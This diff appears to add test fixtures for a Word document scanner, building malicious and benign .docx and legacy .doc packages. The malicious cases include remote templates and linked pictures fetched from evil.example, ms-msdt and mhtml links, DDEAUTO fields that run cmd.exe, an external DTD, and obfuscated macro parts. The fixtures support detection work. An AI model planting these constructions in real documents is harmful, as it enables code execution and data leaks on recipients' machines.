@@ -1,0 +1,367 @@
+import {
+  contentTypes,
+  docx,
+  officeRelationships,
+  oldOffice,
+  relationships,
+  rootRelationships,
+  wordPart,
+  type ZipPart,
+  zip,
+} from './files.ts';
+
+type Case = [name: string, bytes: Buffer];
+
+const documentRelationships = 'word/_rels/document.xml.rels';
+
+/** A relationship of the document: its kind, its target, and whether it says that it points outside. */
+function pointing(kind: string, target: string, mode = 'External', of = documentRelationships) {
+  const type = `${officeRelationships}/${kind}`;
+  return docx([
+    relationships(of, `Type="${type}" Target="${target}"${mode && ` TargetMode="${mode}"`}`),
+  ]);
+}
+
+/** A package whose types and main part are written here. */
+const packageWith = (more: string, parts: ZipPart[]) =>
+  zip([
+    contentTypes(undefined, more),
+    rootRelationships(),
+    wordPart('word/document.xml', '<w:body/>'),
+    ...parts,
+  ]);
+
+const word = (name: string) =>
+  `application/vnd.openxmlformats-officedocument.wordprocessingml.${name}+xml`;
+const override = (part: string, type: string) =>
+  `<Override PartName="${part}" ContentType="${type}"/>`;
+
+const run = (inside: string) => `<w:r>${inside}</w:r>`;
+const character = (type: string) => run(`<w:fldChar w:fldCharType="${type}"/>`);
+const instruction = (text: string) =>
+  run(`<w:instrText xml:space="preserve">${text}</w:instrText>`);
+const field = (...runs: string[]) =>
+  `<w:p>${character('begin')}${runs.join('')}${character('separate')}${run('<w:t>1</w:t>')}${character('end')}</w:p>`;
+
+/** A document of this body. */
+const documentOf = (body: string) =>
+  zip([contentTypes(), rootRelationships(), wordPart('word/document.xml', body)]);
+
+/** A part beside the document, for instance a header. */
+function partWith(root: string, body: string): Buffer {
+  const kinds: Record<string, string> = {
+    hdr: 'header',
+    ftr: 'footer',
+    glossaryDocument: 'document.glossary',
+  };
+  const part = kinds[root] ?? root;
+  return packageWith(override(`/word/${root}.xml`, word(part)), [
+    wordPart(`word/${root}.xml`, body, root),
+  ]);
+}
+
+const dde = 'DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc.exe"';
+const vbaType = 'application/vnd.ms-office.vbaProject';
+const asReferences = (text: string) =>
+  Array.from(text, (sign) => `&#x${sign.charCodeAt(0).toString(16)};`).join('');
+const utf16 = (text: string) =>
+  Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(text, 'utf16le')]);
+
+const rewritten = (name: string, change: (text: string) => Buffer | string) => {
+  const parts = [contentTypes(), rootRelationships(), wordPart('word/document.xml', '<w:body/>')];
+  return zip(
+    parts.map((part) =>
+      part.name === name ? { ...part, content: change(String(part.content)) } : part,
+    ),
+  );
+};
+
+/** What Word would fetch, run or start. */
+export const unsafeWord: Case[] = [
+  ['template by http', pointing('attachedTemplate', 'http://evil.example/t.dotm')],
+  ['template by HTTPS', pointing('attachedTemplate', 'HTTPS://evil.example/t.dotm')],
+  ['template on a share', pointing('attachedTemplate', '\\\\evil.example\\share\\t.dotm')],
+  ['template on a share, slashes', pointing('attachedTemplate', '//evil.example/share/t.dotm')],
+  ['template on a share, mixed', pointing('attachedTemplate', '/\\evil.example/t.dotm')],
+  ['template by file host', pointing('attachedTemplate', 'file://evil.example/t.dotm')],
+  ['template by four slashes', pointing('attachedTemplate', 'file:////evil.example/t.dotm')],
+  [
+    'template by file and backslashes',
+    pointing('attachedTemplate', 'file:\\\\evil.example\\t.dotm'),
+  ],
+  ['template by percent signs', pointing('attachedTemplate', '%68ttp://evil.example/t.dotm')],
+  ['template after blanks', pointing('attachedTemplate', '  \thttp://evil.example/t.dotm')],
+  ['template by references', pointing('attachedTemplate', asReferences('http://evil.example/t'))],
+  ['template without a mode', pointing('attachedTemplate', 'http://evil.example/t.dotm', '')],
+  ['template with a small mode', pointing('attachedTemplate', 'http://evil.example', 'external')],
+  [
+    'template of the settings',
+    pointing('attachedTemplate', 'http://evil.example', 'External', 'word/_rels/settings.xml.rels'),
+  ],
+  ['OLE by http', pointing('oleObject', 'http://evil.example/a.hta')],
+  [
+    'OLE by mhtml',
+    pointing('oleObject', 'mhtml:http://evil.example/a.html!x-usc:http://evil.example'),
+  ],
+  ['OLE by ms-msdt', pointing('hyperlink', 'ms-msdt:/id PCWDiagnostic')],
+  ['search-ms', pointing('hyperlink', 'search-ms:query=a')],
+  ['link to a share', pointing('hyperlink', '\\\\evil.example\\share')],
+  ['unknown scheme', pointing('hyperlink', 'x-evil://a')],
+  ['frame', pointing('frame', 'http://evil.example/a.htm')],
+  ['subdocument', pointing('subDocument', 'file://evil.example/a.docx')],
+  ['linked picture', pointing('image', 'http://evil.example/a.png')],
+  ['linked picture on a share', pointing('image', 'file://evil.example/a.png')],
+  ['source of a mail merge', pointing('mailMergeSource', 'file:///C:/list.xlsx')],
+  ['unknown kind outside', pointing('somethingNew', 'http://evil.example/')],
+  ['chunk of a page', pointing('aFChunk', 'a.mht', '')],
+  ['control', pointing('control', 'activeX/activeX1.xml', '')],
+  ['embedded package', pointing('package', 'embeddings/a.docx', '')],
+  [
+    'OLE of the strict kind',
+    docx([
+      relationships(
+        documentRelationships,
+        'Type="http://purl.oclc.org/ooxml/officeDocument/relationships/oleObject" Target="embeddings/oleObject1.bin"',
+      ),
+    ]),
+  ],
+  [
+    'embedded part',
+    packageWith(
+      override('/word/embeddings/a.bin', 'application/vnd.openxmlformats-officedocument.oleObject'),
+      [{ name: 'word/embeddings/a.bin', content: 'x' }],
+    ),
+  ],
+  [
+    'macros by references',
+    packageWith(`<Override PartName="/word/a.bin" ContentType="${asReferences(vbaType)}"/>`, [
+      { name: 'word/a.bin', content: 'x' },
+    ]),
+  ],
+  [
+    'macros in capitals',
+    packageWith(override('/word/a.bin', vbaType.toUpperCase()), [
+      { name: 'word/a.bin', content: 'x' },
+    ]),
+  ],
+  ['macros by name', docx([{ name: 'word/vba%50roject.bin', content: 'x' }])],
+  ['macros by relationship', pointing('vbaProject', 'a.bin', '')],
+  [
+    'ActiveX part',
+    packageWith(override('/word/a.xml', 'application/vnd.ms-office.activeX+xml'), [
+      { name: 'word/a.xml', content: '<a/>' },
+    ]),
+  ],
+  ['program without a type', docx([{ name: 'word/a', content: 'MZ\x90' }])],
+  [
+    'page as a part',
+    packageWith(override('/word/a.htm', 'text/html'), [{ name: 'word/a.htm', content: '<html/>' }]),
+  ],
+  ['DDE', documentOf(field(instruction(dde)))],
+  ['DDE in small letters', documentOf(field(instruction(dde.toLowerCase())))],
+  [
+    'DDE cut into runs',
+    documentOf(field(...Array.from('DDEAUTO', (sign) => instruction(sign)), instruction(' cmd'))),
+  ],
+  [
+    'DDE in a simple field',
+    documentOf(`<w:p><w:fldSimple w:instr=" ${dde.replaceAll('"', '&quot;')} "/></w:p>`),
+  ],
+  ['DDE by references', documentOf(field(instruction(asReferences('DDEAUTO cmd'))))],
+  [
+    'DDE by QUOTE',
+    documentOf(
+      field(
+        `${character('begin')}${instruction('QUOTE 68 68 69 65 85 84 79')}${character('separate')}${run('<w:t>DDEAUTO</w:t>')}${character('end')}`,
+        instruction(' cmd /c calc'),
+      ),
+    ),
+  ],
+  [
+    'DDE inside another field',
+    documentOf(
+      field(
+        instruction('IF 1 = 1 "'),
+        character('begin'),
+        instruction(dde),
+        character('end'),
+        instruction('"'),
+      ),
+    ),
+  ],
+  ['DDE that never ends', documentOf(`<w:p>${character('begin')}${instruction(dde)}</w:p>`)],
+  [
+    'DDE with another prefix',
+    zip([
+      contentTypes(),
+      rootRelationships(),
+      {
+        name: 'word/document.xml',
+        content:
+          '<d xmlns:q="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><q:fldSimple q:instr="DDE a b"/></d>',
+      },
+    ]),
+  ],
+  ...['hdr', 'ftr', 'footnotes', 'endnotes', 'comments', 'glossaryDocument'].map(
+    (part): Case => [`DDE in ${part}`, partWith(part, field(instruction(dde)))],
+  ),
+  [
+    'picture field',
+    documentOf(field(instruction('INCLUDEPICTURE "http://evil.example/a.png" \\d'))),
+  ],
+  [
+    'text field on a share',
+    documentOf(field(instruction('INCLUDETEXT "\\\\\\\\evil.example\\\\a.docx"'))),
+  ],
+  ['link field', documentOf(field(instruction('LINK Excel.Sheet.12 "\\\\\\\\evil\\\\a.xlsx" a')))],
+  ['database field', documentOf(field(instruction('DATABASE \\d "C:\\\\a.mdb" \\c "x"')))],
+  ['link field to a share', documentOf(field(instruction('HYPERLINK "file://evil.example/a"')))],
+  [
+    'query of a mail merge',
+    packageWith(override('/word/settings.xml', word('settings')), [
+      wordPart(
+        'word/settings.xml',
+        '<w:mailMerge><w:connectString w:val="Provider=x"/></w:mailMerge>',
+        'settings',
+      ),
+    ]),
+  ],
+  [
+    'picture of a shape',
+    documentOf(
+      '<w:p><w:pict><v:shape xmlns:v="urn:schemas-microsoft-com:vml"><v:imagedata src="\\\\evil.example\\a.png"/></v:shape></w:pict></w:p>',
+    ),
+  ],
+  [
+    'document type',
+    rewritten('word/document.xml', (text) =>
+      text.replace('?>', '?><!DOCTYPE a [<!ENTITY b "c">]>'),
+    ),
+  ],
+  [
+    'entity',
+    rewritten('word/document.xml', (text) => text.replace('<w:body/>', '<w:body>&evil;</w:body>')),
+  ],
+  [
+    'document type of the types',
+    rewritten('[Content_Types].xml', (text) =>
+      text.replace('?>', '?><!DOCTYPE a SYSTEM "http://evil.example/a.dtd">'),
+    ),
+  ],
+  ['UTF-7', rewritten('word/document.xml', (text) => text.replace('UTF-8', 'UTF-7'))],
+  ['deep', documentOf('<w:p>'.repeat(5_000) + '</w:p>'.repeat(5_000))],
+  ['two parts of one name', docx([wordPart('word/document.xml', '<w:body/>')])],
+  ['two parts of one name but for case', docx([wordPart('word/DOCUMENT.XML', '<w:body/>')])],
+  [
+    'two parts of one name but for a backslash',
+    docx([wordPart('word\\document.xml', '<w:body/>')]),
+  ],
+  [
+    'DDE in UTF-16',
+    zip([
+      contentTypes(),
+      rootRelationships(),
+      {
+        name: 'word/document.xml',
+        content: utf16(
+          `<?xml version="1.0" encoding="UTF-16"?><w:document xmlns:w="x">${field(instruction(dde))}</w:document>`,
+        ),
+      },
+    ]),
+  ],
+  [
+    'template in UTF-16',
+    docx([
+      {
+        name: documentRelationships,
+        content: utf16(
+          `<?xml version="1.0" encoding="utf-16"?><Relationships><Relationship Id="a" Type="${officeRelationships}/attachedTemplate" Target="http://evil.example/t.dotm" TargetMode="External"/></Relationships>`,
+        ),
+      },
+    ]),
+  ],
+];
+
+const oldWord = { '/WordDocument': 'text'.repeat(2_000) };
+export const unsafeOldWord: Case[] = [
+  ['storage MACROS', oldOffice({ ...oldWord, '/MACROS/VBA/dir': 'code' })],
+  ['storage _vba_project_cur', oldOffice({ ...oldWord, '/_vba_project_cur/VBA/dir': 'code' })],
+  ['macros deep inside', oldOffice({ ...oldWord, '/ObjectPool/a/macros/VBA/dir': 'code' })],
+  ['package', oldOffice({ ...oldWord, '/ObjectPool/a/\u0001Ole10Native': 'MZ' })],
+  ['embedded object', oldOffice({ ...oldWord, '/ObjectPool/_1234567890/\u0003ObjInfo': 'x' })],
+  ['equation', oldOffice({ ...oldWord, '/a/Equation Native': 'x' })],
+  ['DDE field', oldOffice({ '/WordDocument': `${'text'.repeat(2_000)}\u0013 DDEAUTO cmd` })],
+];
+
+/** What only asks, or stays on the machine, or is written in another way. */
+export const ordinaryWord: Case[] = [
+  ['template of the machine', pointing('attachedTemplate', 'file:///C:\\Users\\a\\Normal.dotm')],
+  ['template by name', pointing('attachedTemplate', 'Normal.dotm')],
+  ['template of a Mac', pointing('attachedTemplate', '/Users/a/Library/Normal.dotm')],
+  ['template on localhost', pointing('attachedTemplate', 'file://localhost/Users/a/Normal.dotm')],
+  ['link', pointing('hyperlink', 'https://www.canada.ca/a?b=c&amp;d=%20e')],
+  ['link to write', pointing('hyperlink', 'mailto:a@example.ca?subject=A: b')],
+  ['link to a file', pointing('hyperlink', 'file:///C:/Users/a/b.docx')],
+  ['link without a scheme', pointing('hyperlink', 'www.example.ca')],
+  ['linked picture of the machine', pointing('image', 'file:///C:/a.png')],
+  ['linked picture of a mail', pointing('image', 'cid:image001.png@01D9')],
+  [
+    'fields',
+    documentOf(
+      [
+        'PAGE \\* MERGEFORMAT',
+        'TOC \\o "1-3" \\h \\z \\u',
+        'HYPERLINK "https://example.ca" \\o "A tip: here"',
+        'HYPERLINK \\l "_Toc1"',
+        'ADDIN ZOTERO_ITEM CSL_CITATION {"uris":["http://zotero.org/a"]}',
+        'MACROBUTTON NoMacro [Click here]',
+        'INCLUDEPICTURE "C:\\\\a.png" \\d',
+        'DATE \\@ "d MMMM yyyy"',
+        'FORMTEXT',
+      ]
+        .map((text) => field(instruction(text.replaceAll('"', '&quot;'))))
+        .join(''),
+    ),
+  ],
+  ['words about DDE', documentOf('<w:p><w:r><w:t>DDEAUTO is added &amp; hidden</w:t></w:r></w:p>')],
+  ['UTF-16', rewritten('word/document.xml', (text) => utf16(text.replace('UTF-8', 'UTF-16')))],
+  ['a mark before UTF-8', rewritten('word/document.xml', (text) => `\ufeff${text}`)],
+  [
+    'strict',
+    zip([
+      contentTypes(),
+      relationships(
+        '_rels/.rels',
+        'Type="http://purl.oclc.org/ooxml/officeDocument/relationships/officeDocument" Target="/word/document.xml"',
+      ),
+      {
+        name: 'word/document.xml',
+        content: '<w:document xmlns:w="http://purl.oclc.org/ooxml/wordprocessingml/main"/>',
+      },
+    ]),
+  ],
+  [
+    'chart with its figures',
+    packageWith(
+      override(
+        '/word/charts/chart1.xml',
+        'application/vnd.openxmlformats-officedocument.drawingml.chart+xml',
+      ) +
+        override(
+          '/word/embeddings/a.xlsx',
+          'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet',
+        ),
+      [
+        { name: 'word/charts/chart1.xml', content: '<c/>' },
+        {
+          name: 'word/embeddings/a.xlsx',
+          content: zip([{ name: 'xl/workbook.xml', content: '<a/>' }]),
+        },
+        relationships(
+          'word/charts/_rels/chart1.xml.rels',
+          `Type="${officeRelationships}/package" Target="../embeddings/a.xlsx"`,
+        ),
+      ],
+    ),
+  ],
+];
